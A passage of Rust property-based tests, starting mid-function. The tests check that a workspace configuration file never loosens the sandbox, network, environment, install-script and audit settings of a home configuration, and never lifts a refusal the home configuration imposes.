        (Some("sync"), "read_command") => a.read_command == b.read_command,
        (Some("install"), "root") => a.install_root == b.install_root,
        (Some("registry"), _) => a.registry == b.registry,
        (Some("github"), "url" | "token_env") => a.github == b.github,
        (Some("runtime"), "pass_env") => br.pass_env.iter().all(|name| ar.pass_env.contains(name)),
        (Some("runtime"), "sandbox") => br.sandbox.tightens(ar.sandbox),
        (Some("runtime"), "network") => br.network.tightens(ar.network),
        (Some("runtime"), "confirm") => br.confirm.tightens(ar.confirm),
        (Some("runtime"), "allow_inline") => !br.allow_inline || ar.allow_inline,
        (Some("runtime"), "allow_install_scripts") => {
            !br.allow_install_scripts || ar.allow_install_scripts
        }
        (Some("runtime"), "max_concurrent_runs") => {
            br.max_concurrent_runs <= ar.max_concurrent_runs
        }
        (Some("runtime"), "max_runs_per_minute") => {
            br.max_runs_per_minute <= ar.max_runs_per_minute
        }
        (Some("runtime"), "node") => ar.node == br.node,
        (Some("runtime"), "npm") => ar.npm == br.npm,
        (Some("runtime"), "python") => ar.python == br.python,
        (Some("runtime"), "sh") => ar.sh == br.sh,
        (Some("runtime"), "managed_node") => ar.managed_node == br.managed_node,
        (Some("runtime"), "node_dist") => ar.node_dist == br.node_dist,
        (Some("runtime"), "sandbox_helper") => ar.sandbox_helper == br.sandbox_helper,
        (Some("runtime"), "writable") => br.writable.iter().all(|dir| ar.writable.contains(dir)),
        (Some("runtime"), "setup_network") => ar.setup_network == br.setup_network,
        (Some("audit"), "fail_on") => b.audit.fail_on <= a.audit.fail_on,
        (Some("audit"), "ask_on") => b.audit.ask_on <= a.audit.ask_on,
        (Some("audit"), "refuse_on") => b.audit.refuse_on <= a.audit.refuse_on,
        (Some("audit"), "rules") => a
            .audit
            .rules
            .iter()
            .all(|folder| b.audit.rules.contains(folder)),
        (Some("audit"), "accepted") => a.audit.accepted == b.audit.accepted,
        other => return Err(format!("no property for {other:?}: add one with the row")),
    };
    if holds {
        Ok(())
    } else {
        Err(format!(
            "{} is looser with the workspace",
            row.shown(row.name)
        ))
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, ..ProptestConfig::default() })]

    /// Whatever a trusted workspace's file says, for every key of the table the effective
    /// policy is never looser than the home's alone, and a refusal of the home's is never
    /// lifted.
    #[test]
    fn a_workspace_never_loosens_the_home(home in file_strategy(), workspace in file_strategy()) {
        let pair = Pair::new();
        pair.home_file(&home);
        pair.workspace_file(&workspace);
        let (alone, both) = pair.both();
        prop_assert!(alone.refusal().is_none(), "{home}: {:?}", alone.invalid);
        for row in KEYS {
            if let Err(why) = not_looser(row, &alone, &both) {
                prop_assert!(false, "{why}\nhome:\n{home}\nworkspace:\n{workspace}");
            }
        }
        // The workspace's sources are all project scope, drawn from its own file.
        prop_assert!(both.project.paths.iter().all(|path| !both.config.extra_roots.contains(path)));
    }

    /// The same with the home's file broken: the refusal stands whatever the workspace says.
    #[test]
    fn a_workspace_never_lifts_a_refusal(workspace in file_strategy()) {
        let pair = Pair::new();
        pair.home_file("[runtime]\nsandbox = 'of'\n");
        pair.workspace_file(&workspace);
        let (alone, both) = pair.both();
        prop_assert!(alone.refusal().is_some());
        prop_assert!(both.refusal().is_some());
        for name in names() {
            prop_assert!(both.verdict(&name).0.tightens(Permission::Ask));
        }
    }
}
